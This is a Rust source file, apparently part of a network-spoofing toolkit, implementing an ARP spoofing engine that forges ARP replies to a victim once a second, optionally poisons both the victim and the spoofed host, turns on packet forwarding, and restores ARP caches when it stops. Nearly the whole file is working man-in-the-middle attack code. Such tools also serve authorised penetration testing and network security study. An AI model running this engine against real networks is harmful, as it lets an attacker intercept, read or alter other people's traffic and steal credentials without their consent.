use super::config::ArpSpoofConfig;
use crate::context::SpoofContext;
use async_trait::async_trait;
use netspoof_core::{
    CancellationToken, Engine, EngineLoop, EngineStats, EngineStatsCounters, Error, MacAddr,
    Result,
};
use netspoof_packet::{ArpPacket, PacketBuilder};
use parking_lot::Mutex;
use std::net::{IpAddr, Ipv4Addr};
use std::sync::Arc;
use std::time::Duration;
use tokio::time::{interval, MissedTickBehavior};
use tracing::{debug, error, info, warn};

/// Ethernet + ARP reply telling `target` that `sender_ip` is at `sender_mac`
pub fn arp_reply_frame(
    sender_mac: MacAddr,
    sender_ip: Ipv4Addr,
    target_mac: MacAddr,
    target_ip: Ipv4Addr,
) -> Result<Vec<u8>> {
    PacketBuilder::new()
        .ethernet(sender_mac, target_mac)
        .arp(ArpPacket::new_reply(
            sender_mac, sender_ip, target_mac, target_ip,
        ))
        .build()
}

/// Fully resolved configuration the loop runs with
#[derive(Debug, Clone, Copy)]
struct ArpPlan {
    alias_mac: MacAddr,
    spoof_ip: Ipv4Addr,
    /// Real hardware address of `spoof_ip`, known up front in full-duplex
    spoof_mac: Option<MacAddr>,
    victim_ip: Ipv4Addr,
    victim_mac: MacAddr,
    full_duplex: bool,
    skip_restore: bool,
}

/// ARP spoofer for a single victim
pub struct ArpSpoofEngine {
    ctx: SpoofContext,
    config: Mutex<ArpSpoofConfig>,
    lp: EngineLoop,
}

impl ArpSpoofEngine {
    pub const NAME: &'static str = "arp.spoof";

    pub fn new(ctx: SpoofContext, config: ArpSpoofConfig) -> Self {
        Self {
            ctx,
            config: Mutex::new(config),
            lp: EngineLoop::new(Self::NAME),
        }
    }

    /// Replace the configuration; only allowed while stopped
    pub fn configure(&self, config: ArpSpoofConfig) -> Result<()> {
        self.lp.ensure_stopped()?;
        *self.config.lock() = config;
        Ok(())
    }

    pub fn config(&self) -> ArpSpoofConfig {
        self.config.lock().clone()
    }

    async fn find_mac(&self, ip: Ipv4Addr) -> Result<MacAddr> {
        let tracker = &self.ctx.tracker;
        let ip = IpAddr::V4(ip);
        match tracker.lookup_async(ip, false).await {
            Ok(mac) => Ok(mac),
            Err(_) => {
                tracker.probe(ip);
                tracker.lookup_async(ip, true).await
            }
        }
    }

    async fn resolve(&self, config: &ArpSpoofConfig) -> Result<ArpPlan> {
        let iface = &self.ctx.interface;

        let alias_mac = config.alias_mac.unwrap_or(iface.mac_address);
        let spoof_ip = config.spoof_ip.or(iface.ipv4).ok_or_else(|| {
            Error::invalid_parameter("spoof_ip", format!("{} has no IPv4 address", iface.name))
        })?;
        let victim_ip = config
            .victim_ip
            .or_else(|| self.ctx.gateway_v4())
            .ok_or_else(|| {
                Error::invalid_parameter("victim_ip", "no victim given and no gateway known")
            })?;

        if victim_ip == spoof_ip {
            return Err(Error::invalid_parameter(
                "victim_ip",
                format!("{} is also the spoofed address", victim_ip),
            ));
        }

        let victim_mac = match config.victim_mac {
            Some(mac) => mac,
            None => self.find_mac(victim_ip).await.map_err(|e| {
                Error::invalid_parameter(
                    "victim_mac",
                    format!("cannot resolve {}: {}", victim_ip, e),
                )
            })?,
        };

        let mut full_duplex = config.full_duplex;
        let mut spoof_mac = None;
        if full_duplex {
            info!(spoof_ip = %spoof_ip, "full-duplex mode enabled, looking up spoofed host");
            match self.ctx.tracker.lookup_async(IpAddr::V4(spoof_ip), true).await {
                Ok(mac) => spoof_mac = Some(mac),
                Err(e) => {
                    error!(
                        spoof_ip = %spoof_ip,
                        error = %e,
                        "could not find spoofed hardware address, full-duplex disabled"
                    );
                    full_duplex = false;
                }
            }
        }

        Ok(ArpPlan {
            alias_mac,
            spoof_ip,
            spoof_mac,
            victim_ip,
            victim_mac,
            full_duplex,
            skip_restore: config.skip_restore,
        })
    }
}

fn send_reply(
    ctx: &SpoofContext,
    counters: &EngineStatsCounters,
    sender_mac: MacAddr,
    sender_ip: Ipv4Addr,
    target_mac: MacAddr,
    target_ip: Ipv4Addr,
) {
    match arp_reply_frame(sender_mac, sender_ip, target_mac, target_ip) {
        Ok(frame) => {
            ctx.send(ArpSpoofEngine::NAME, &frame, counters);
        }
        Err(e) => {
            counters.increment_errors();
            error!(target = %target_ip, error = %e, "could not build ARP reply");
        }
    }
}

async fn restore(plan: &ArpPlan, ctx: &SpoofContext, counters: &EngineStatsCounters) {
    if plan.skip_restore {
        warn!("ARP cache restoration is disabled");
        return;
    }

    let spoof_mac = match plan.spoof_mac {
        Some(mac) => mac,
        None => match ctx.tracker.lookup_async(IpAddr::V4(plan.spoof_ip), false).await {
            Ok(mac) => mac,
            Err(e) => {
                warn!(
                    spoof_ip = %plan.spoof_ip,
                    error = %e,
                    "hardware address unknown, skipping cache restore"
                );
                return;
            }
        },
    };

    info!(victim = %plan.victim_ip, "restoring ARP cache");
    send_reply(
        ctx,
        counters,
        spoof_mac,
        plan.spoof_ip,
        plan.victim_mac,
        plan.victim_ip,
    );

    if plan.full_duplex {
        send_reply(
            ctx,
            counters,
            plan.victim_mac,
            plan.victim_ip,
            spoof_mac,
            plan.spoof_ip,
        );
    }
}

async fn spoof_loop(
    plan: ArpPlan,
    ctx: SpoofContext,
    counters: Arc<EngineStatsCounters>,
    token: CancellationToken,
) {
    let mut ticker = interval(Duration::from_secs(1));
    ticker.set_missed_tick_behavior(MissedTickBehavior::Delay);

    loop {
        tokio::select! {
            _ = token.cancelled() => break,
            _ = ticker.tick() => {}
        }

        debug!(victim = %plan.victim_ip, spoofed = %plan.spoof_ip, "poisoning");
        send_reply(
            &ctx,
            &counters,
            plan.alias_mac,
            plan.spoof_ip,
            plan.victim_mac,
            plan.victim_ip,
        );

        if let (true, Some(spoof_mac)) = (plan.full_duplex, plan.spoof_mac) {
            send_reply(
                &ctx,
                &counters,
                plan.alias_mac,
                plan.victim_ip,
                spoof_mac,
                plan.spoof_ip,
            );
        }
    }

    restore(&plan, &ctx, &counters).await;
}

#[async_trait]
impl Engine for ArpSpoofEngine {
    fn name(&self) -> &'static str {
        Self::NAME
    }

    fn description(&self) -> &'static str {
        "Send forged ARP replies to a victim, optionally in both directions"
    }

    async fn start(&self) -> Result<()> {
        self.lp.ensure_stopped()?;

        let config = self.config();
        let plan = self.resolve(&config).await?;
        self.ctx.ensure_forwarding().await?;

        let ctx = self.ctx.clone();
        let counters = self.lp.counters();
        self.lp
            .spawn(move |token| spoof_loop(plan, ctx, counters, token))?;

        info!(
            victim = %self.ctx.describe(IpAddr::V4(plan.victim_ip)),
            victim_mac = %plan.victim_mac,
            spoofed = %plan.spoof_ip,
            alias_mac = %plan.alias_mac,
            full_duplex = plan.full_duplex,
            "ARP spoofer started"
        );
        Ok(())
    }

    async fn stop(&self) -> Result<()> {
        info!("waiting for ARP spoofer to stop");
        self.lp.shutdown().await?;
        info!("ARP spoofer stopped");
        Ok(())
    }

    fn is_running(&self) -> bool {
        self.lp.is_running()
    }

    fn stats(&self) -> EngineStats {
        self.lp.stats()
    }
}
